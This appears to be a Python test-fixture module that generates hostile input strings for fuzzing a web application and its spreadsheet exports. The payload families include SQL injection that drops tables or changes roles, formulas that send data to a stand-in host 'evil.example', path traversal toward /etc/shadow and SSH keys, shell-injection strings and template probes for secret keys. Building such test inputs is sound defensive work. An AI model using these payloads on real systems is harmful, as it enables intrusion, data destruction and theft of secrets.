"""What somebody may type, or a department deliver, to make a page run, break or lie: more than 500 texts, by what they try.

They are made from parts, always the same ones in the same order. `MARK` stands in each that would run if a browser or a
spreadsheet took it for more than a text, so that a test can look for what ran.
"""

from hostile_markup import ATTRIBUTES, MARK, MARKUP, SCRIPT

LONG = 3_000

SQL = tuple(
    before + attempt
    for before in ("", "'", '"', "')", "\\'")
    for attempt in (
        "; drop table queues_task; --",
        " or 1=1 --",
        " or '1'='1",
        " union select null, password from accounts_user --",
        "; update accounts_user set role='auditor'; --",
        "||(select number from queues_subject limit 1)||",
        "; attach 'x.db' as x; --",
        "; copy queues_subject to program 'id'; --",
        " and pg_sleep(5) --",
        "$$; set role none; --",
        "/**/or/**/1=1#",
    )
)

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
FORMULAS = tuple(
    start + attempt
    for start in _STARTS
    for attempt in (
        "1+1",
        f"cmd|' /C calc'!{MARK}",
        f'HYPERLINK("http://evil.example/{MARK}","点击")',
        f'WEBSERVICE("http://evil.example/{MARK}")',
        f'IMPORTXML("http://evil.example/{MARK}","//a")',
        "SUM(A1:A9)*cmd",
        "2024年10月",
    )
)

_BIDI = (
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
)
BIDI = tuple(text for mark in _BIDI for text in (f"{mark}反向", f"王{mark}秀英", f"已办结{mark}", f"{mark * 40}王"))

_INVISIBLE = (
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u034f",
    "\u180e",
    "\u115f",
    "\u3164",
    "\u2800",
)
ZERO_WIDTH = tuple(text for mark in _INVISIBLE for text in (mark, f"王{mark}秀{mark}英", f"{mark}= 1", mark * 200))

CONTROLS = (
    *(f"王{chr(code)}英" for code in range(0x20)),
    *(f"王{chr(code)}英" for code in range(0x7F, 0xA0)),
    "\x00",
    "\x00" * 50 + "王",
    "王\x00' or 1=1",
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;标题\x07",
    "\x1b]8;;http://evil.example\x1b\\点\x1b]8;;\x1b\\",
    "\x08" * 20 + "改写",
    "\u2028" + SCRIPT,
    "\u2029" + SCRIPT,
    "\u0085换行",
)

PATHS = tuple(
    before + path + after
    for before in ("", "file://", "/tasks/")
    for path in ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\boot.ini",
                 "%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "~/.ssh/id_rsa", "/proc/self/environ")
    for after in ("", "%00.png")
)  # fmt: skip

TEMPLATES = tuple(
    form.replace("X", asked)
    for form in (
        "{{X}}",
        "{% X %}",
        "${X}",
        "#{X}",
        "<%=X%>",
        "{X}",
        "%(X)s",
        "{{{X}}}",
        "*{X}",
        "{#X#}",
        "[[X]]",
        "@(X)",
    )
    for asked in ("7*7", "me.password", "settings.SECRET_KEY", "0.__class__.__mro__")
)

HEADERS = tuple(
    f"王{end}{line}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028")
    for line in ("Set-Cookie: a=b", "Location: //evil.example", "Content-Type: text/html\r\n\r\n<p>", "Bcc: x@evil.example",
                 '{"seq":1,"action":"act","actor":"system"}', "2024-11-04 INFO 已核实")
)  # fmt: skip

CODES = (
    *(
        "null",
        "None",
        "undefined",
        "NaN",
        "Infinity",
        "-0",
        "1e309",
        "0x7f",
        "true",
        "[]",
        "{}",
        "nil",
        "NULL",
        "\\N",
        "#N/A",
    ),
    *(
        "9" * 40,
        "-9" * 20,
        "1/0",
        "0000-00-00",
        "9999-99-99",
        "2024-02-30",
        "1.7976931348623157e+309",
        "٣٤٥",
        "²①Ⅷ",
        "๓",
    ),
    *("$(id)", "`id`", "; id", "| id", "&& id", "%s%n%x", "%99999d", "*", "?", "[a-z]*", "(a+)+$", "--help", "-rf"),
    *(
        "\\",
        '"',
        "'",
        "`",
        "<",
        ">",
        "&",
        "'\"><",
        "\\\\\\'",
        "a,b;c\td",
        '"a","b"',
        "a\nb,c",
        "&amp;",
        "&#0;",
        "&nbsp;",
    ),
    *(
        "__proto__",
        "constructor",
        "toString",
        "con",
        "nul.csv",
        ".",
        "..",
        "/",
        "//",
        "🙂" * 20,
        "👩‍👩‍👧‍👦",
        "e\u0301" * 60,
    ),
    *("\U00020000\U0002a6d6", "\ue000", "\ufffd", "\uffff", "\U0010ffff", "㐀䶵", "ﷺ", "İıſK", "Ω≈ç√", "\u0e33" * 80),
)

LONGS = (
    "长" * LONG,
    "<b>" * (LONG // 3),
    "&" * LONG,
    "=" * LONG,
    "\u0301" * 1000,
    "a " * (LONG // 2),
    "\n" * 500 + "末行",
    "(" * LONG,
    "W" * LONG,
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "attributes": ATTRIBUTES,
    "sql": SQL,
    "formulas": FORMULAS,
    "bidi": BIDI,
    "zero-width": ZERO_WIDTH,
    "controls": CONTROLS,
    "paths": PATHS,
    "templates": TEMPLATES,
    "headers": HEADERS,
    "codes": CODES,
    "long": LONGS,
}
WORDS: tuple[str, ...] = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
"""Every text once."""

FEW: tuple[str, ...] = tuple(text for family in FAMILIES.values() for text in family[:: max(len(family) // 5, 1)][:6])
"""Some of each family, for what takes one text at a time."""


def batches(at_most: int) -> list[str]:
    """All the texts, one under the other, in as few texts of a length as will hold them."""
    found: list[str] = []
    for word in WORDS:
        fits = found and len(found[-1]) + len(word) + 1 <= at_most
        found[-1:] = [f"{found[-1]}\n{word}"] if fits else [*found[-1:], word]
    return found
